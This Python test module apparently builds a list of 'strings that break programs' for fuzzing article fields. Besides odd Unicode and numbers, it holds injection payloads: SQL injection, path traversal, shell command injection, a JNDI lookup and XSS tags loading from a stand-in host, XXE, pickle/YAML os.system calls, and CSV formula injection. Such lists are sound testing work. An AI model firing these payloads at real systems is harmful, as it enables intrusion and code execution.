"""Strings that break programs, by kind: our own list, each short enough to stand in any field of an article."""

import unicodedata
from collections.abc import Iterator
from itertools import product

WORDS = (
    "undefined undef null NULL Null (null) None none nil NIL NaN nan -nan NA N/A n/a #N/A #REF! Infinity -inf true "
    "True FALSE no off hasOwnProperty constructor __proto__ __class__ then self CON aux NUL COM1 lpt9 . .. ... ~ - -- "
    "--help -rf * ? % %% # & | ; < > <> >< \\ / // \\\\ ' '' \" \"\" ` `` ''' \"\"\" '\" () {} [] [[ }} <!-- --> ]]> "
    "/* */ <? ?> <% %> ${ #{ {{ }} {% %} = == === != := += =- @ @@ ! !! !!! ¡ ¿ § ¶ † ‡ • ‰ ‹ › « » „ ‚ ‛ ‟ ″ ′"
).split()
NUMBERS = (
    "0 00 007 -0 +0 .0 0. 1. .1 1e5 1E-5 1e309 -1e309 1e-400 0x10 0b11 0o17 1_000 1,000.00 1.000,00 1'000 1/0 "
    "0/0 1/2 ١٢٣ १२३ １２３ ¹²³ ½ ⅷ Ⅻ ① 2147483648 -9223372036854775809 1e 1e+ --1 +-1 1-2 1:2 12:60 24:00 "
    "2031-02-30 0000-00-00 9999-12-31 03/04/2031 31/31/31 1.1.1 1.2.3.4 ::1 $1 $$ €5 5% 1st 1° 10^6 1e1000000000"
).split() + ["9" * 23, "9" * 400, "0." + "3" * 400, "1" * 20 + "e" + "1" * 20]
SQUARES = (  # what other scripts and old tables are full of
    "İstanbul ıI ſharp ẞß ﬁne ﬄ Ǆ ǅ ŉ ΑΒΓ ς ПАРК Ёж 部落格 田中さん 사회과학원 어학연구소 ﾊﾝｶｸ ㌀㌁ 𠜎𠜱 ﷽ אבג שלום "
    "مرحبا ١٫٥ हिन्दी ไทยไม่มีช่องว่าง မြန်မာ ខ្មែរ አማርኛ ᚛ᚄᚓᚐ 𝔗𝔥𝔢 𝓽𝓱𝓮 𝐭𝐡𝐞 ⓣⓗⓔ ᴛʜᴇ ʇɥǝ ₜₕₑ ᵗʰᵉ 🅣🅗🅔 ｔｈｅ Ｔｈｅ ｒｅｇｉｍｅ "
    "é ñ ö ø å æ œ ð þ đ ħ ł ŋ ŧ 👩‍👩‍👧‍👦 🏳️‍🌈 🇫🇷 🇫 👍🏿 ☃️ ❤️‍🔥 🫠 ٩(͡๏̯͡๏)۶ (╯°□°）╯︵ ಠ_ಠ ¯\\_(ツ)_/¯ ʕ•ᴥ•ʔ :‑) ;) <3"
).split()
MOJIBAKE = [
    text.encode().decode("cp1252", "replace") for text in ("“é”", "it’s — so", "naïve façade", "Ünïcödé", "🚧", "日本")
]
ATTACKS = (
    "'; DROP TABLE articles; --|1 OR 1=1|' UNION SELECT 1 --|../../../../etc/passwd|..\\..\\windows\\win.ini|/dev/zero|"
    "file:///etc/passwd|C:\\con\\con|~nobody/.profile|$(touch planted)|`touch planted`|; touch planted|| touch planted|"
    "%s%s%s%n|%(x)s|{0}|{x.__class__}|{{7*7}}|{% raw %}|#{7*7}|${7*7}|${jndi:ldap://x.example/a}|"
    "<%= 7*7 %>|<!--#exec cmd=ls-->|<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;|<![CDATA[x]]>|&lt;script&gt;|&#0;|&#xD800;|&#99999999;|"
    "&amp;amp;|\\u0000|\\ud800|\\x00|\\N{BEL}|(a+)+$|^(([a-z])+.)+[A-Z]([a-z])+$|(?R)|[[:alpha:]|\\|\\\\|\\'|\\\"|"
    "__import__('os').system('true')|cos\\nsystem\\n(S'true'\\ntR.|!!python/object/apply:os.system ['true']|"
    "# heading|- item|> quote|[link](javascript:alert(1))|![x](http://x.example/p)|**bold**|`code`|$x^$|\\frac{1}|\\input{x}|"
    "javascript:alert(1)|JaVaScRiPt:alert(1)|java\tscript:alert(1)|vbscript:x|data:text/html,<script>alert(1)</script>|"
    "http://|http://[|http://a b|http://x.example/?a=<b>&c=\"d\"|//x.example|mailto:a@b.example|user@|@user|a@b@c"
).split("|")  # fmt: skip
HANDLERS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerenter".split()
TAGS = "img svg body iframe video details input marquee a style math form".split()
LOOSE = (
    "<script>alert(1)</script>|<SCRIPT SRC=//x.example/a.js>|</script><script>alert(1)</script>|<scr<script>ipt>|"
    "<script >alert(1)</script >|<script/x>alert(1)</script>|<style>*{background:url(//x.example)}</style>|"
    "<base href=//x.example>|<meta http-equiv=refresh content='0;url=//x.example'>|"
    "<link rel=stylesheet href=//x.example>|<object data=x>|<embed src=x>|<template>|"
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>|"
    "<textarea></title>|</style></script>|--><img src=x onerror=alert(1)>|'><img src=x onerror=alert(1)>|"
    "\"><img src=x onerror=alert(1)>|\" onmouseover=alert(1) x=\"|' onmouseover=alert(1) x='|` onmouseover=alert(1)|"
    "<a href=javascript:alert(1)>x</a>|<a href=' javascript:alert(1)'>x</a>|<math><mi xlink:href=javascript:alert(1)>x"
).split("|")  # fmt: skip
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", ";=", ",=")
FORMULAS = [f"{lead}{rest}" for lead, rest in product(LEADS, ("1+1", "cmd|' /C calc'!A0"))]


def strings() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (
        "",
        " ",
        "\t",
        "\n",
        "\r\n",
        "\u2028",
        "a\0b",
        "\0",
        "\ud800",
        "a\udfffb",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
    )
    for kind in (WORDS, NUMBERS, SQUARES, MOJIBAKE, ATTACKS, LOOSE, FORMULAS):
        yield from kind
    for tag, handler in product(TAGS, HANDLERS):
        yield f"<{tag} src=x {handler}=alert(1)>"
    odd = [*range(1, 32), *range(127, 160), 0xAD, 0x61C, 0x180E, *range(0x2000, 0x2010), *range(0x2028, 0x2030)]
    for code in (
        *odd,
        0x205F,
        *range(0x2060, 0x2065),
        0x3000,
        0xFEFF,
        0xFFF9,
        0xFFFB,
        0xE0001,
        0xE0041,
        0xFE0F,
        0xE000,
    ):
        yield f"re{chr(code)}gime"
    for mark in "\u0300 \u0301 \u0336 \u0489 \u20dd".split():
        yield "bridge".replace("", mark)
        yield "e" + mark * 60
    for form in ("NFC", "NFD", "NFKC", "NFKD"):
        yield unicodedata.normalize(form, "Añez ﬁnds Ａ① Å ệ 각")
    for sign in "!?.,:;'\"-_~^`|/\\()[]{}<>@#$%&*+=…—“”‘’«»":
        yield sign * 60
    yield from (
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x9b31m",
        "a\bb",
        "\x07",
        "[31m",
        "\u202etxt.exe",
        "\u2066a\u2069",
    )
